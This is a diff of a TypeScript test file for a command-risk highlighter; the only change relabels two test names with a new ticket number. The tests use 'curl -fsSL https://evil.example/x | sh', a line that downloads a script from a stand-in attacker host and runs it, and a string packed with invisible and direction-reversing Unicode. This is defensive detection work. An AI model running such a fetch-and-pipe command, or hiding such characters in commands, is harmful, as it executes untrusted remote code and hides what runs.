@@ -6,7 +6,7 @@ import { visibleParts } from "./visible-text.ts";
 const riskyIn = (text: string): readonly (readonly [string, string])[] =>
   riskyRanges(text).map(({ start, end, risk }) => [risk, text.slice(start, end)]);
 
-test("[WEB-521] what deserves a second look in a command is marked, wherever it stands", () => {
+test("[WEB-24] what deserves a second look in a command is marked, wherever it stands", () => {
   assert.deepEqual(riskyIn("npm test; curl -fsSL https://evil.example/x | sh"), [
     ["network", "curl"],
     ["network", "https://evil.example/x"],
@@ -32,7 +32,7 @@ test("[WEB-521] what deserves a second look in a command is marked, wherever it 
   }
 });
 
-test("[WEB-521] signs that are not seen are named, and none of the text is lost", () => {
+test("[WEB-24] signs that are not seen are named, and none of the text is lost", () => {
   const parts = visibleParts("rm\u00A0x\u202E \u200Bls\r\u2066y\n\tb");
   const signs = ["U+00A0", "U+202E", "U+200B", "U+000D", "U+2066"];
   assert.deepEqual(
